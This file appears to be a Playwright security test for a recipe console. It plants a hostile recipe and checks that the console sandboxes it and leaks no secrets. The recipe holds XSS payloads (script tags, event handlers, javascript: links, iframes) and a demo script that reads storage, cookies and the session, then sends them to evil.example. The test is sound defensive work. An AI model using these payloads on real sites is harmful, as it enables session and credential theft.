/**
 * A hostile recipe (issue 11): script tags, event handlers, `javascript:` links and raw iframes in
 * its prose, hidden inputs filled from the connection's secrets, a KS carried from one step to the
 * next, and a Demo that tries the console's storage, cookies, parent DOM and console session and
 * sends whatever it got to another host. Nothing may run in the console's origin, and no secret
 * may reach the demo, the request it sends out, or the masked code.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test as base, expect } from '@playwright/test';
import { startServer, TEST_ADMIN_SECRET, TEST_PARTNER_ID, type TestServer } from '../helpers/server';
import { runButton, stepRunner, stepStatus, waitConnected } from './runner-helpers';

const RECIPE = `<!--METADATA
{ "summary": "A recipe that attacks the console.", "openapi": "/api_v3/openapi.json" }
-->

# Hostile Recipe
<script>window.__pwned = 'intro-script'</script>
<img src="x" onerror="window.__pwned = 'img-onerror'">
<iframe src="javascript:parent.__pwned = 'iframe-js'"></iframe>
<iframe srcdoc="<script>parent.__pwned = 'iframe-srcdoc'</script>"></iframe>
<svg onload="window.__pwned = 'svg-onload'"></svg>
A [markdown javascript: link](javascript:window.__pwned='md-link') and <a href="javascript:window.__pwned='a-tag'">a raw one</a>.

## Read the session
Prose with <script>window.__pwned = 'step-script'</script> inside.

### API Call
\`\`\`json
{
  "method": "post",
  "path": "/service/session/action/get",
  "parameters": [
    { "name": "k", "custom": true, "hidden": true, "fromSecrets": "ks" },
    { "name": "s", "custom": true, "hidden": true, "fromSecrets": "secret" },
    { "name": "title", "custom": true, "consoleDefault": "harmless" }
  ]
}
\`\`\`

## Carry it on
### API Call
\`\`\`json
{
  "method": "post",
  "path": "/service/system/action/ping",
  "parameters": [
    { "name": "carried", "custom": true, "hidden": true, "dynamicValue": { "fromStep": 0, "value": "ks" } },
    { "name": "k2", "custom": true, "hidden": true, "fromSecrets": "ks" },
    { "name": "s2", "custom": true, "hidden": true, "fromSecrets": "secret" },
    { "name": "title", "custom": true, "consoleDefault": "still harmless" }
  ]
}
\`\`\`

### Sample Code (curl)
\`\`\`bash
curl -d ks=<%- answers.carried %> -d k=<%- answers.k2 %> -d s=<%- answers.s2 %>
\`\`\`

### Demo
\`\`\`html
<p id="title"><%- answers.title %></p>
<pre id="answers">carried=<%- answers.carried %>|k2=<%- answers.k2 %>|s2=<%- answers.s2 %></pre>
<pre id="report"></pre>
<script>
  var out = [];
  function tryIt(name, fn) { try { out.push(name + ':' + fn()); } catch (e) { out.push(name + ':blocked'); } }
  tryIt('localStorage', function () { return JSON.stringify(localStorage); });
  tryIt('sessionStorage', function () { return JSON.stringify(sessionStorage); });
  tryIt('cookie', function () { return document.cookie; });
  tryIt('parent', function () { return parent.document.title; });
  tryIt('top', function () { return top.location.href; });
  fetch('/api_v3/sandbox/session').then(function (r) { return r.text(); }).then(
    function (t) { out.push('session:' + t); },
    function () { out.push('session:blocked'); }
  ).then(function () {
    new Image().src = 'http://evil.example/steal?' + encodeURIComponent(document.documentElement.outerHTML + out.join('\\n'));
    var r = document.getElementById('report');
    r.textContent = out.join('\\n');
    r.setAttribute('data-done', '1');
  });
</script>
\`\`\`
`;

const test = base.extend<object, { server: TestServer }>({
  server: [
    async ({}, use) => {
      const dir = mkdtempSync(join(tmpdir(), 'hostile-recipes-'));
      writeFileSync(join(dir, 'hostile.md'), RECIPE);
      const server = await startServer({ env: { RECIPES_EXTRA_DIR: dir } });
      await use(server);
      await server.dispose();
      rmSync(dir, { recursive: true, force: true });
    },
    { scope: 'worker', timeout: 180_000 },
  ],
  baseURL: async ({ server }, use) => use(server.url),
});

test('a hostile recipe runs nothing in the console and gets no secret', async ({ page, server }) => {
  // connected with the admin secret (remembered on this device), so every secret is in play
  await page.addInitScript(
    ([url, pid, secret]) =>
      localStorage.setItem('recipe-console:connection:remembered', JSON.stringify({ serviceUrl: url, partnerId: pid, secret })),
    [server.url, TEST_PARTNER_ID, TEST_ADMIN_SECRET] as const,
  );
  const sent: string[] = [];
  await page.route('http://evil.example/**', (route) => {
    sent.push(route.request().url());
    return route.abort();
  });
  const openapiRequests: Array<Record<string, string>> = [];
  page.on('request', (r) => {
    if (r.url().endsWith('/api_v3/openapi.json')) openapiRequests.push(r.headers());
  });
  const violations: string[] = [];
  page.on('console', (m) => {
    if (/Content Security Policy|Refused to/.test(m.text())) violations.push(m.text());
  });

  await page.goto('/recipes/extra/hostile');
  await expect(page.getByRole('heading', { level: 1, name: 'Hostile Recipe' })).toBeVisible();
  await waitConnected(page);
  const ks = await page.evaluate(() => JSON.parse(sessionStorage.getItem('recipe-console:connection') ?? '{}').ks as string);
  expect(ks).toMatch(/^djJ8/);

  // the prose: no script, handler, javascript: URL or iframe reached the page, nothing ran
  const article = page.locator('article');
  expect(await article.locator('script, iframe, svg[onload], [onerror], [onload]').count()).toBe(0);
  for (const a of await page.locator('a').all()) expect((await a.getAttribute('href')) ?? '').not.toMatch(/^\s*javascript:/i);
  await page
    .getByText('markdown javascript: link')
    .click()
    .catch(() => undefined);
  expect(await page.evaluate(() => (window as { __pwned?: string }).__pwned)).toBeUndefined();

  // the recipe's description URL is fetched without a Referer
  await expect.poll(() => openapiRequests.length).toBeGreaterThan(0);
  for (const h of openapiRequests) expect(h.referer).toBeUndefined();

  await runButton(page, 1).click();
  await expect(stepStatus(page, 1)).toHaveText('✓ Done');
  await runButton(page, 2).click();
  await expect(stepStatus(page, 2)).toHaveText('✓ Done');

  // the demo: isolated, told so, and given nothing secret
  await expect(page.getByTestId('step-2-demo-note')).toContainText('never your session (KS), your admin secret');
  const frame = page.frameLocator('[data-testid="step-2-demo"]');
  await expect(frame.locator('#title')).toHaveText('still harmless');
  await expect(frame.locator('#answers')).toHaveText('carried=|k2=|s2=');
  await expect(frame.locator('#report')).toHaveAttribute('data-done', '1');
  const report = await frame.locator('#report').textContent();
  for (const what of ['localStorage', 'sessionStorage', 'cookie', 'parent', 'session']) expect(report).toContain(`${what}:blocked`);
  expect(report).not.toContain('top:http');
  const demoHtml = await frame.locator('html').evaluate((el) => el.outerHTML);
  await expect.poll(() => sent.length).toBeGreaterThan(0); // it did try to send what it had
  for (const text of [demoHtml, report ?? '', ...sent.map(decodeURIComponent)]) {
    expect(text).not.toContain(ks);
    expect(text).not.toContain(TEST_ADMIN_SECRET);
    expect(text).not.toMatch(/djJ8[A-Za-z0-9_-]{20}/); // no KS at all
  }
  expect(await page.evaluate(() => (window as { __pwned?: string }).__pwned)).toBeUndefined();

  // masked code (the default) shows placeholders, not the secrets the answers hold
  const code = stepRunner(page, 2).locator('.code-samples [role="tabpanel"][data-lang="curl"]');
  await expect(code).toContainText('curl -d ks=YOUR_KS -d k=YOUR_KS -d s=YOUR_ADMIN_SECRET');

  // nothing kept in the tab's storage holds the admin secret (it is remembered only where the user asked)
  const session = await page.evaluate(() => JSON.stringify(Object.entries(sessionStorage)));
  expect(session).not.toContain(TEST_ADMIN_SECRET);
  expect(violations, 'no script was even attempted in the console page').toEqual([]);
});

test('the demo document alone is still sandboxed, and cannot be framed by another site', async ({ page, server }) => {
  const r = await page.goto('/demo-frame');
  expect(r?.headers()['content-security-policy']).toMatch(/sandbox allow-scripts/);
  expect(r?.headers()['content-security-policy']).toMatch(/frame-ancestors 'self'/);
  // opened on its own, it is still in an opaque origin: no storage of the console's origin
  const storage = await page.evaluate(() => {
    try {
      return typeof localStorage.length;
    } catch {
      return 'blocked';
    }
  });
  expect(storage).toBe('blocked');
  expect(await page.evaluate(() => window.origin)).toBe('null');
  expect(server.url).toMatch(/^http:\/\/127\.0\.0\.1:/);
});
